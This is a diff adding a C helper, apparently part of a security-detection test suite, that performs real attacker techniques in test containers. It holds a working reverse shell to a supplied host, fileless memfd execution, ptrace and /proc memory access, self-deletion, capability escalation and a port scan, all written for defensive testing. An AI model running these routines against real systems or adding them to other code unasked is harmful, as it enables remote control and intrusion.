@@ -1,0 +1,185 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+ * vigil-attack: performs, for real, the syscalls of attacker techniques that busybox cannot
+ * (the scenario suite builds it statically and bind-mounts it into test containers). Each mode
+ * does one technique and exits; nothing here is simulated.
+ *
+ *   connect HOST PORT [PAYLOAD]   TCP connect (and send PAYLOAD with send(2))
+ *   revshell HOST PORT            connect, dup2 the socket onto 0/1/2, exec /bin/sh
+ *   unixconnect PATH              connect to a unix socket (a container runtime's API)
+ *   setuid0                       setuid(0)
+ *   capset                        make every permitted capability effective
+ *   memfd                         copy /bin/busybox into a memfd and execveat it (fileless)
+ *   ptrace                        fork a child, PTRACE_ATTACH to it, detach, reap
+ *   traceme                       PTRACE_TRACEME
+ *   selfdelete                    unlink the running executable
+ *   bpf                           load a two-instruction socket filter program
+ *   rename NAME                   prctl(PR_SET_NAME, NAME)
+ *   procmem                       fork a child, open /proc/<child>/mem for reading and writing
+ *   scan HOST FIRST LAST          TCP connect scan of a port range
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/capability.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int tcp(const char *host, int port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	if (s < 0 || inet_pton(AF_INET, host, &a.sin_addr) != 1)
+		return -1;
+	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
+		close(s);
+		return -1;
+	}
+	return s;
+}
+
+static pid_t sleeper(void)
+{
+	pid_t p = fork();
+	if (p == 0) {
+		pause();
+		_exit(0);
+	}
+	usleep(50000);
+	return p;
+}
+
+static void reap(pid_t p)
+{
+	kill(p, SIGKILL);
+	waitpid(p, NULL, 0);
+}
+
+int main(int argc, char **argv)
+{
+	const char *m = argc > 1 ? argv[1] : "";
+	if (!strcmp(m, "connect") && argc >= 4) {
+		int s = tcp(argv[2], atoi(argv[3]));
+		if (s < 0)
+			return 2;
+		if (argc >= 5)
+			send(s, argv[4], strlen(argv[4]), 0);
+		usleep(100000);
+		close(s);
+		return 0;
+	}
+	if (!strcmp(m, "revshell") && argc >= 4) {
+		int s = tcp(argv[2], atoi(argv[3]));
+		if (s < 0)
+			return 2;
+		dup2(s, 0);
+		dup2(s, 1);
+		dup2(s, 2);
+		execl("/bin/sh", "sh", "-i", (char *)NULL);
+		return 3;
+	}
+	if (!strcmp(m, "unixconnect") && argc >= 3) {
+		struct sockaddr_un a = { .sun_family = AF_UNIX };
+		int s = socket(AF_UNIX, SOCK_STREAM, 0);
+		strncpy(a.sun_path, argv[2], sizeof(a.sun_path) - 1);
+		return connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 ? 2 : 0;
+	}
+	if (!strcmp(m, "setuid0"))
+		return setuid(0) < 0 ? 2 : 0;
+	if (!strcmp(m, "capset")) {
+		struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
+		struct __user_cap_data_struct d[2];
+		if (syscall(SYS_capget, &h, d) < 0)
+			return 2;
+		d[0].effective = d[0].permitted;
+		d[1].effective = d[1].permitted;
+		return syscall(SYS_capset, &h, d) < 0 ? 3 : 0;
+	}
+	if (!strcmp(m, "memfd")) {
+		int in = open("/bin/busybox", O_RDONLY), fd = memfd_create("payload", 0);
+		char buf[65536];
+		ssize_t n;
+		char *args[] = { "true", NULL }, *env[] = { NULL };
+		if (in < 0 || fd < 0)
+			return 2;
+		while ((n = read(in, buf, sizeof(buf))) > 0)
+			if (write(fd, buf, n) != n)
+				return 3;
+		syscall(SYS_execveat, fd, "", args, env, AT_EMPTY_PATH);
+		return 4;
+	}
+	if (!strcmp(m, "ptrace")) {
+		pid_t p = sleeper();
+		long r = ptrace(PTRACE_ATTACH, p, 0, 0);
+		if (r == 0) {
+			waitpid(p, NULL, 0);
+			ptrace(PTRACE_DETACH, p, 0, 0);
+		}
+		reap(p);
+		return r == 0 ? 0 : 2;
+	}
+	if (!strcmp(m, "traceme"))
+		return ptrace(PTRACE_TRACEME, 0, 0, 0) < 0 ? 2 : 0;
+	if (!strcmp(m, "selfdelete")) {
+		char self[4096];
+		ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
+		if (n <= 0)
+			return 2;
+		self[n] = 0;
+		return unlink(self) < 0 ? 3 : 0;
+	}
+	if (!strcmp(m, "bpf")) {
+		struct bpf_insn prog[] = {
+			{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
+			{ .code = BPF_JMP | BPF_EXIT },
+		};
+		union bpf_attr a;
+		memset(&a, 0, sizeof(a));
+		a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
+		a.insns = (unsigned long)prog;
+		a.insn_cnt = 2;
+		a.license = (unsigned long)"GPL";
+		int fd = syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a));
+		if (fd >= 0)
+			close(fd);
+		return fd < 0 ? 2 : 0;
+	}
+	if (!strcmp(m, "rename") && argc >= 3) {
+		prctl(PR_SET_NAME, argv[2], 0, 0, 0);
+		usleep(100000);
+		return 0;
+	}
+	if (!strcmp(m, "procmem")) {
+		char path[64];
+		pid_t p = sleeper();
+		int r, w;
+		snprintf(path, sizeof(path), "/proc/%d/mem", p);
+		r = open(path, O_RDONLY);
+		w = open(path, O_WRONLY);
+		reap(p);
+		return r < 0 || w < 0 ? 2 : 0;
+	}
+	if (!strcmp(m, "scan") && argc >= 5) {
+		for (int port = atoi(argv[3]); port <= atoi(argv[4]); port++) {
+			int s = tcp(argv[2], port);
+			if (s >= 0)
+				close(s);
+		}
+		return 0;
+	}
+	fprintf(stderr, "usage: see the header of attack.c\n");
+	return 64;
+}
